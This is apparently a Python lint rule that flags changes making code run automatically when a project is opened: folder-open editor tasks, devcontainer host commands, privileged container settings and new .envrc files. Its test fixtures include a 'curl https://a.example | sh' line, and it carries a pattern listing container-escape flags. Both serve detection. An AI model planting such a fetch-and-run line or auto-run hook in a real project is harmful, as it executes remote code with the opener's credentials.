"""Something runs as soon as the project is opened."""

from collections.abc import Callable, Iterator
from typing import ClassVar

from rules import agent_settings
from rules.agent_settings import Setting
from rules.findings import Finding, Tier
from rules.patterns import found
from rules.rule import Diff, Edit, Rule, visible

_COMMANDS = frozenset({
    "initializecommand", "oncreatecommand", "updatecontentcommand", "postcreatecommand", "poststartcommand", "postattachcommand",
})  # fmt: skip
_POWERS = rb"(?i)privileged|cap-add|docker\.sock|seccomp=unconfined|--network=host|--pid=host"
_HOOKED = (b".envrc", b".autoenv", b".autoenv.zsh", b"sitecustomize.py", b"usercustomize.py")
_Judge = Callable[[Setting], tuple[Tier | None, str]]


class RunsOnOpen(Rule):
    """Something runs as soon as the project is opened.

    ## What it does
    Finds editor tasks that start when the folder opens, commands of a development container that run on the host or hand it the host's
    powers, new `.envrc` files and modules that Python imports by itself. Other commands of a development container are notes.

    ## Why it matters
    To look at a change, one opens it. What runs then has the reviewer's keys.

    ## Example
    `.vscode/tasks.json` gains a task with `"runOn": "folderOpen"`.

    ## What to do instead
    Let people start such a task by name.
    """

    id, slug, tier, since = "TH524", "runs-on-open", Tier.HOLD, "0.1"
    triggers: ClassVar = ()

    HOLDS: ClassVar = (
        Diff(".vscode/tasks.json", "{}\n", '{"tasks": [{"command": "sh a", "runOptions": {"runOn": "folderOpen"}}]}\n'),
        Diff(".devcontainer/devcontainer.json", "{}\n", '{"initializeCommand": "sh a.sh"}\n'),
        Diff(".devcontainer/devcontainer.json", "{}\n", '{"runArgs": ["--privileged"]}\n'),
        Diff(".envrc", None, "curl https://a.example | sh\n"),
    )
    PASSES: ClassVar = (
        Diff(".vscode/tasks.json", "{}\n", '{"tasks": [{"command": "make"}]}\n'),
        Diff(".devcontainer/devcontainer.json", "{}\n", '{"postCreateCommand": "npm ci"}\n'),
        Diff(".envrc", None, "export A=1\n"),
    )

    def check(self, edit: Edit) -> Iterator[Finding]:
        """By the kind of file, from its values."""
        *directories, name = edit.path.lower().split(b"/")
        if name == b"tasks.json" and directories[-1:] == [b".vscode"]:
            yield from self._values(edit, _of_task)
        elif name in (b"devcontainer.json", b".devcontainer.json"):
            yield from self._values(edit, _of_container)
        elif name in _HOOKED:
            for line in edit.changed.added:
                if not found(
                    rb"^(?:#|export \w+=[^`$]*$|use \w+|layout \w+|dotenv\b|PATH_add\b|watch_file\b|source_up\b|import |from )|^$",
                    line.text,
                ):
                    yield self.came(edit, line.number, "this runs by itself where the project is opened")

    def _values(self, edit: Edit, judge: _Judge) -> Iterator[Finding]:
        before = frozenset(agent_settings.read(edit.old, edit.path) or ())
        new = agent_settings.read(edit.new, edit.path)
        if new is None:
            yield self.came(edit, 0, "what this file runs could not be read")
        for setting in new or ():
            weight, said = judge(setting)
            if weight is not None and setting not in before:
                line = agent_settings.line_of(edit.new, setting)
                yield self.came(edit, line, f"{said}: `{visible(setting.value.encode())[:80]}`", tier=weight)


def _of_task(setting: Setting) -> tuple[Tier | None, str]:
    opens = setting.keys[-1].lower() == "runon" and setting.value.lower() == "folderopen"
    return (Tier.HOLD if opens else None), "a task runs as soon as the folder is opened"


def _of_container(setting: Setting) -> tuple[Tier | None, str]:
    keys = {key.lower() for key in setting.keys}
    if "initializecommand" in keys:
        return Tier.HOLD, "this runs on the host of whoever opens the container"
    if keys & {"runargs", "mounts", "capadd", "privileged"} and (
        found(_POWERS, setting.value.encode()) or "privileged" in keys
    ):
        return Tier.HOLD, "the container gets the powers of its host"
    return (Tier.NOTE if keys & _COMMANDS else None), "this runs in the container of whoever opens the project"
